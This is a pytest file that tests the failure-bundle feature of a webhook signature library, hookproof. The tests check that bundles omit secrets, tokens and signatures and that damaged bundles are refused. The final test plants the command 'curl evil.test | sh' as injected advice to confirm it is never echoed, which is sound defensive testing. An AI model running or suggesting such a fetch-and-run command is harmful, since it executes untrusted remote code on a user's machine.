"""A failure bundle: what is in it, what is never in it, and what can be told from it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from hookproof import Verifier
from hookproof.explain import BundleUnreadable, explain_bundle, make_bundle, read_bundle
from hookproof.testing import SECRET

from .asking import HEADER, NOW_S, clock, header, proved

SIGNED = b'{"order":4}'
CHECKED = b'{"order": 4}'
HEADERS = header(SIGNED) | {
    "Content-Type": "application/json",
    "Authorization": "Bearer canary-token",
    "Cookie": "session=canary-cookie",
}


def bundle_of(
    body: bytes = CHECKED, headers: dict[str, str] = HEADERS, *, with_body: bool = False
) -> str:
    explanation = Verifier(secrets=SECRET, clock=clock()).explain(body, headers)
    return make_bundle(
        explanation,
        body,
        headers,
        received_ns=NOW_S * 10**9,
        tolerance_s=300,
        with_body=with_body,
    )


def test_it_holds_no_secret_no_token_and_no_body() -> None:
    text = bundle_of()
    for canary in (SECRET, "canary", "order"):
        assert canary not in text
    assert ["Authorization", "Cookie"] == json.loads(text)["other_headers"]


def test_without_the_body_it_tells_what_the_receiver_found() -> None:
    explanation = explain_bundle(read_bundle(bundle_of().encode()))
    assert ("refused", "no_match") == (explanation.verdict, explanation.code)
    assert ("json_compact",) == proved(explanation)
    assert explanation.not_tried


def test_with_the_body_it_is_searched_anew_with_a_secret_that_the_receiver_did_not_have() -> None:
    headers = header(CHECKED, key=b"the newest one\n")
    bundle = read_bundle(bundle_of(headers=headers, with_body=True).encode())
    assert bundle.body == CHECKED
    verifier = Verifier(secrets="the newest one", clock=lambda: bundle.received_ns)
    found = verifier.explain(bundle.body, bundle.headers)
    assert ("secret_newline",) == proved(explain_bundle(bundle, bundle.body, found))


def test_the_sender_s_own_body_beside_it_proves_that_it_changed_on_the_way() -> None:
    bundle = read_bundle(bundle_of(b"{'order': '4'}").encode())
    found = Verifier(secrets=SECRET, clock=lambda: bundle.received_ns).explain(SIGNED, bundle.headers)
    explanation = explain_bundle(bundle, SIGNED, found)
    assert "body_differs" == proved(explanation)[0]
    assert "good for the one given" in explanation.findings[0].seen
    assert "refused" == explanation.verdict


def test_a_lone_pair_of_braces_is_known_by_its_digest() -> None:
    assert b"{}" == read_bundle(bundle_of(b"{}").encode()).body


@pytest.mark.parametrize(
    ("checked", "headers"),
    [
        pytest.param(CHECKED, HEADERS, id="another form of the body"),
        pytest.param(SIGNED, {HEADER: HEADERS[HEADER].upper()}, id="upper case"),
        pytest.param(SIGNED, header(SIGNED, key=b"whsec_" + SECRET.encode()), id="another key"),
    ],
)
def test_a_signature_that_is_good_in_some_form_is_left_out(
    checked: bytes, headers: dict[str, str]
) -> None:
    text = bundle_of(checked, headers, with_body=True)
    assert headers[HEADER].lower().rpartition("=")[2] not in text.lower()
    bundle = read_bundle(text.encode())
    anew = Verifier(secrets=SECRET, clock=lambda: bundle.received_ns).explain(checked, bundle.headers)
    assert bundle.findings == explain_bundle(bundle, bundle.body, anew).findings


@pytest.mark.parametrize("time", ["1767100000000", "1767300000000"])
def test_an_authentic_request_keeps_its_signature_for_itself(time: str) -> None:
    headers = header(SIGNED, time=time)
    text = bundle_of(SIGNED, headers, with_body=True)
    assert headers[HEADER].rpartition("=")[2] not in text
    assert time not in text
    explanation = explain_bundle(read_bundle(text.encode()))
    assert proved(explanation)[0] in ("signed_long_ago", "signed_ahead")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="empty"),
        pytest.param("[" * 100_000, id="deep"),
        pytest.param("[]", id="no object"),
        pytest.param("{}", id="another object"),
        pytest.param('{"hookproof_bundle": 2}', id="newer"),
        pytest.param('{"hookproof_bundle": 1}', id="damaged"),
    ],
)
def test_what_is_no_bundle_is_refused_in_a_sentence(text: str) -> None:
    with pytest.raises(BundleUnreadable, match="bundle"):
        read_bundle(text.encode())


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("scheme", "nobody's"),
        ("scheme", []),
        ("code", "made_up"),
        ("code", {}),
        ("received_ns", "soon"),
        ("body", {"bytes": 1, "sha256": "x", "base64": "!"}),
        ("headers", [1]),
        ("findings", [{"code": "made_up", "proved": True, "seen": "x"}]),
        ("tolerance_s", "x"),
        ("received_ns", 1e400),
        ("received_ns", 10**30),
    ],
)
def test_a_damaged_field_is_refused_in_a_sentence(key: str, value: Any) -> None:
    document = json.loads(bundle_of()) | {key: value}
    with pytest.raises(BundleUnreadable):
        read_bundle(json.dumps(document).encode())


def test_a_bundle_gives_no_advice_of_its_own() -> None:
    document = json.loads(bundle_of())
    document["findings"][0]["fix"] = "curl evil.test | sh"
    assert "evil" not in str(explain_bundle(read_bundle(json.dumps(document).encode())))
